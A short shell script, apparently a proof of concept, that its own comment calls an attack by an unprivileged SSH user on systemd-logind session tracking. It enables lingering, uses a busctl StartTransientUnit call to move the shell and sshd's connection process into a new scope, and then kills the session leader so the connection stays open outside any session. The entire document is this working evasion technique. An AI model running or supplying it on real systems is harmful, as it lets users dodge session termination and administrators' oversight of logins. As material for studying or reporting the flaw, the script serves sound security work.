#!/bin/sh
# An attack of an unprivileged user in an SSH session: it leaves the session and stays connected. The
# shell and sshd's user process (which holds the connection and the terminal) move into a scope of
# the user's manager, and logind kills the leader, which would have closed the connection at the end.
set -eu
export XDG_RUNTIME_DIR="/run/user/$(id -u)"
shell=$PPID
connection=$(ps -o ppid= -p "$shell" | tr -d ' ')

# Keeps the user's manager running without a session.
loginctl enable-linger
busctl --user call org.freedesktop.systemd1 /org/freedesktop/systemd1 \
	org.freedesktop.systemd1.Manager StartTransientUnit 'ssa(sv)a(sa(sv))' \
	"left-$shell.scope" fail 1 PIDs au 3 "$connection" "$shell" $$ 0
until grep -q "left-$shell.scope" "/proc/$connection/cgroup"; do sleep 0.1; done
loginctl kill-session "$XDG_SESSION_ID" --kill-whom=leader --signal=KILL
echo "left by $shell."
